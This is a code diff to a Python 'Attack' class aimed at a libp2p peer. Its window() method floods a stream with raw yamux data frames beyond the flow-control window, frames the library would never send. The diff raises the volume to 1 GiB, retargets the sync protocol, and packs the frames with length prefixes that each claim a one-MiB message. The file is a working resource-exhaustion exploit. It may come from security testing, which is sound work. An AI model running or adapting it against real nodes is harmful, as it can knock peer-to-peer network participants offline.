@@ -26,7 +26,9 @@ from multiaddr import Multiaddr
 
 MESHSUB = "/meshsub/1.1.0"
 CHUNK = 60_000
-SENT = 64 << 20
+SENT = 1 << 30
+LENGTHS = b"\0\x10\0\x10"
+"""Wherever a message begins in a row of these, it has one MiB."""
 TIMEOUT = 40.0
 DATA_FRAME = struct.Struct("!BBHII")
 
@@ -71,10 +73,12 @@ class Attack:
 
     async def window(self) -> None:
         """More than the window of its stream allows, by frames that the library would not send."""
-        stream = await self.host.new_stream(self.peer, [f"{self.network}/relay/1"])
+        stream = await self.host.new_stream(self.peer, [f"{self.network}/sync/1"])
         muxed = stream.muxed_stream
-        frame = DATA_FRAME.pack(0, 0, 0, muxed.stream_id, CHUNK) + bytes(CHUNK)
+        frame = DATA_FRAME.pack(0, 0, 0, muxed.stream_id, CHUNK) + LENGTHS * (CHUNK // 4)
         for _ in range(SENT // CHUNK):
+            if muxed.conn.is_closed or muxed.closed:
+                raise ConnectionError("cut off")
             await muxed.conn._write_frame(frame)
 
 
